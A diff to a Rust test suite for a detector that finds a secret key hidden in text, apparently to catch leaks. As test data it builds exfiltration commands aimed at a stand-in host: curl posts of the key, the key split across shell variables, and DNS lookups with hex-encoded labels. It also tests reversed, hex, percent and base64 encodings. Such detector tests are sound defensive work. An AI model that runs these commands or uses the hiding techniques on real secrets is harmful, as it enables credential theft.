@@ -33,20 +33,18 @@ fn hex(bytes: &[u8]) -> String {
 fn a_value_is_found_in_the_forms_that_people_hide_it_in() {
     let check = |text: &str, form: Form| assert_eq!(found(KEY, text), Some(form), "{text}");
     check(&format!("curl -d '{KEY}' https://x.example"), Form::Plain);
-    check(
-        &format!("a={} b={}; curl $a$b", &KEY[..20], &KEY[20..]),
-        Form::Plain,
-    );
-    check(&format!("first half: {}", &KEY[..20]), Form::Plain);
-    check(&format!("second half: {}", &KEY[20..]), Form::Plain);
+    let (one, two) = KEY.split_at(20);
+    check(&format!("a={one} b={two}; curl $a$b"), Form::Plain);
+    check(&format!("first half: {one}"), Form::Plain);
+    check(&format!("second half: {two}"), Form::Plain);
     let letters: Vec<String> = KEY.chars().map(|c| format!("'{c}'")).collect();
     check(&letters.join("+"), Form::Plain);
     check(&KEY.chars().rev().collect::<String>(), Form::Reversed);
     check(&hex(KEY.as_bytes()), Form::Hex);
     check(&hex(KEY.as_bytes()).to_uppercase(), Form::Hex);
     let name = hex(KEY.as_bytes());
-    let labels: Vec<&str> = [&name[..31], &name[31..60], &name[60..]].to_vec();
-    check(&format!("dig {}.x.example", labels.join(".")), Form::Hex);
+    let (one, two) = name.split_at(31);
+    check(&format!("dig {one}.{two}.x.example"), Form::Hex);
     let percent: String = KEY.bytes().map(|b| format!("%{b:02X}")).collect();
     check(&percent, Form::Percent);
     let escaped: String = KEY.bytes().map(|b| format!("\\x{b:02x}")).collect();
@@ -98,8 +96,8 @@ proptest! {
     #[test]
     fn half_of_any_value_is_enough(value in "[A-Za-z0-9]{24,80}", around in "[ -~]{0,60}") {
         prop_assume!(!is_wordy(&value));
-        let half = value.len() / 2;
-        for part in [&value[..half], &value[half..]] {
+        let (one, two) = value.split_at(value.len() / 2);
+        for part in [one, two] {
             let text = format!("{around} {part} {around}");
             prop_assert!(found(&value, &text).is_some());
             let encoded = format!("{around} {} {around}", base64(part.as_bytes()));
